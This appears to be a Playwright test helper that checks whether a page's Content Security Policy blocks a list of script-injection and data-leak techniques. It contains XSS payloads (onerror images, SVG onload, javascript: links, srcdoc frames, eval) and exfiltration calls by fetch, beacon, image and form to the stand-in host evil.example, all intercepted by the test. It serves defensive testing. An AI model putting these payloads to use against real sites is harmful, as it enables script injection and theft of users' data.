import type { Page, Route } from '@playwright/test';

const EVIL = 'https://evil.example';

/**
 * Ways to get code into a page or data out of it. Each runs in the page, in a timer: what Playwright evaluates by itself
 * is above the policy. It counts as run when it calls `ran(name)`, restyles, or when its request leaves the browser.
 */
const inPage: Record<string, (name: string) => void> = {
  'inline script': (name) => {
    const script = document.createElement('script');
    script.textContent = `ran('${name}')`;
    document.body.append(script);
  },
  'inline script set as HTML': (name) => {
    const script = document.createElement('script');
    script.innerHTML = `ran('${name}')`;
    document.body.append(script);
  },
  'handler attribute': (name) => {
    const button = document.createElement('button');
    button.setAttribute('onclick', `ran('${name}')`);
    document.body.append(button);
    button.click();
  },
  'innerHTML with a handler': (name) => {
    const box = document.createElement('div');
    box.innerHTML = `<img src="data:," onerror="ran('${name}')">`;
    document.body.append(box);
  },
  'insertAdjacentHTML with an image of ours': (name) => {
    document.body.insertAdjacentHTML('beforeend', `<img src="https://evil.example/html?${encodeURIComponent(name)}">`);
  },
  eval: (name) => {
    eval(`ran('${name}')`);
  },
  'Function constructor': (name) => {
    new Function(`ran('${name}')`)();
  },
  'timer with a string': (name) => {
    setTimeout(`ran('${name}')`);
  },
  'script of another site': (name) => {
    const script = document.createElement('script');
    script.src = `https://evil.example/script.js?${encodeURIComponent(name)}`;
    document.body.append(script);
  },
  'script of our site that no build made': (name) => {
    const script = document.createElement('script');
    script.src = `/planted.js?${encodeURIComponent(name)}`;
    document.body.append(script);
  },
  'link that is a script': (name) => {
    const link = document.createElement('a');
    link.href = `javascript:ran('${name}')`;
    document.body.append(link);
    link.click();
  },
  'frame with a document of its own': (name) => {
    const frame = document.createElement('iframe');
    frame.setAttribute('srcdoc', `<script>parent.ran('${name}')</script>`);
    document.body.append(frame);
  },
  worker: (name) => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
    worker.onmessage = () => (window as unknown as { ran: (name: string) => void }).ran(name);
  },
  'style element': (name) => {
    const style = document.createElement('style');
    style.textContent = 'h1 { outline: 7px solid }';
    document.head.append(style);
    const outline = getComputedStyle(document.querySelector('h1') ?? document.body).outlineWidth;
    if (outline === '7px') (window as unknown as { ran: (name: string) => void }).ran(name);
  },
  'style attribute': (name) => {
    const box = document.createElement('div');
    box.setAttribute('style', 'outline: 7px solid');
    document.body.append(box);
    if (getComputedStyle(box).outlineWidth === '7px') (window as unknown as { ran: (name: string) => void }).ran(name);
  },
  'fetch to another site': (name) => {
    void fetch(`https://evil.example/fetch?${encodeURIComponent(name)}`, { mode: 'no-cors' }).catch(() => {});
  },
  'beacon to another site': (name) => {
    navigator.sendBeacon(`https://evil.example/beacon?${encodeURIComponent(name)}`);
  },
  'picture of another site': (name) => {
    new Image().src = `https://evil.example/picture?${encodeURIComponent(name)}`;
  },
  'form to another site': (name) => {
    const form = document.createElement('form');
    form.action = `https://evil.example/form?${encodeURIComponent(name)}`;
    form.method = 'post';
    form.target = '_blank';
    document.body.append(form);
    form.submit();
  },
  'base of another site': (name) => {
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.prepend(base);
    if (document.baseURI === 'https://evil.example/') (window as unknown as { ran: (name: string) => void }).ran(name);
    base.remove();
  },
};

/** As if they had got into the page's own HTML. */
const inHtml: Record<string, (name: string) => string> = {
  'script in the HTML': (name) => `<script>ran('${name}')</script>`,
  'handler in the HTML': (name) => `<img src="data:," onerror="ran('${name}')">`,
  'drawing in the HTML': (name) => `<svg onload="ran('${name}')"></svg>`,
  'frame in the HTML': (name) => `<iframe srcdoc="<script>parent.ran('${name}')</script>"></iframe>`,
};

/** Their names. */
export const attacks = [...Object.keys(inPage), ...Object.keys(inHtml)];

/**
 * Tries each attack on a page.
 *
 * @returns the names of those that have worked by now; they come one by one
 */
export async function startAttacks(page: Page, address: string): Promise<ReadonlySet<string>> {
  const worked = new Set<string>();
  await page.exposeFunction('ran', (name: string) => void worked.add(name));
  const answer = (route: Route) => {
    const name = decodeURIComponent(new URL(route.request().url()).search.slice(1));
    if (route.request().resourceType() !== 'script') worked.add(name);
    return route.fulfill({ contentType: 'text/javascript', body: `ran(${JSON.stringify(name)})` });
  };
  await page.context().route(`${EVIL}/**`, answer);
  await page.context().route('**/planted.js?*', answer);
  await page.route(`**${address}`, async (route) => {
    const response = await route.fetch();
    const planted = Object.entries(inHtml).map(([name, html]) => html(name));
    const body = (await response.text()).replace('</main>', `${planted.join('')}</main>`);
    return route.fulfill({ response, body });
  });

  const code = Object.entries(inPage).map(([name, run]) => `${JSON.stringify(name)}: ${String(run)}`);
  await page.addInitScript({ content: `window.attacks = { ${code.join(',')} }` });
  await page.goto(address);
  for (const name of Object.keys(inPage)) {
    await page.evaluate((chosen) => {
      const { attacks: known } = window as unknown as { attacks: typeof inPage };
      setTimeout(() => known[chosen]?.(chosen));
    }, name);
  }
  return worked;
}
